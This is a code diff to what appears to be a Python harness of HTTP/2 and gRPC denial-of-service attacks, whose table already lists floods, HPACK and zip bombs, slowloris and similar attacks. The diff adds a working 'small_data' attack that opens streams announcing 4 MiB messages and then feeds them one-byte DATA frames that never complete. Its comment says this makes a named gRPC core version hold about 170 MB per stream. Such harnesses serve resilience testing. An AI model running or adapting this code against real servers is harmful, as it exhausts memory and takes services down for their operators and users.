@@ -383,6 +383,27 @@ def goaway_flood(port, seconds=DEFAULT_SECONDS, max_bytes=DEFAULT_BYTES):
     return c, out
 
 
+def small_data(port, seconds=DEFAULT_SECONDS, max_bytes=DEFAULT_BYTES, streams=4):
+    """Request messages announced at 4 MiB and fed one byte a DATA frame on
+    a few streams, never completed: the 1.51 core keeps some 40 bytes a
+    frame until a message is whole (170 MB a stream)."""
+    out = Outcome("small_data")
+    c = Conn(port, out)
+    block = request_block(port, GET)
+    deadline = out.started + seconds
+    prefix = grpc_message(b"", announced=4 << 20)
+    for i in range(streams):
+        s = 1 + 2 * i
+        if not c.send(frame(HEADERS, END_HEADERS, s, block) + frame(DATA, 0, s, prefix), deadline):
+            break
+        out.streams += 1
+    one = b"".join(frame(DATA, 0, 1 + 2 * (k % streams), b"\x0a") for k in range(4000))
+    while time.monotonic() < deadline and out.sent < max_bytes and not c.closed:
+        if not c.take_credit(4000, deadline) or not c.send(one, deadline):
+            break
+    return c, out
+
+
 def ping_flood(port, seconds=DEFAULT_SECONDS, max_bytes=DEFAULT_BYTES):
     """PINGs as fast as the socket takes them; the PONGs are never read."""
     out = Outcome("ping_flood")
@@ -605,7 +626,7 @@ ATTACKS = {
     "hpack_bomb": hpack_bomb, "empty_data": empty_data, "continuation": continuation,
     "settings_flood": settings_flood, "slowloris": slowloris,
     "unacked_settings": unacked_settings, "made_you_reset": made_you_reset,
-    "zip_bomb": zip_bomb, "goaway_flood": goaway_flood,
+    "zip_bomb": zip_bomb, "goaway_flood": goaway_flood, "small_data": small_data,
 }
 
 
